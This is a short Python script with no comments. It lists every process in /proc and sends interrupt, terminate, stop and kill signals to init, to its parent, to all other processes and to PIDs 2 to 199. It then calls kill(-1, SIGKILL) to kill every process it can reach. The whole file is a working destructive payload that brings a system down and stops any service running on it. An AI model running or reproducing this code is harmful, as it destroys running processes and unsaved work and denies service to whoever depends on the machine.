import os
import signal

own = os.getpid()
others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != own]
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGHUP, signal.SIGCHLD, signal.SIGSTOP, signal.SIGKILL):
    for pid in [1, os.getppid() or 1, *others, *range(2, 200)]:
        if pid != own:
            try:
                os.kill(pid, number)
            except OSError:
                pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
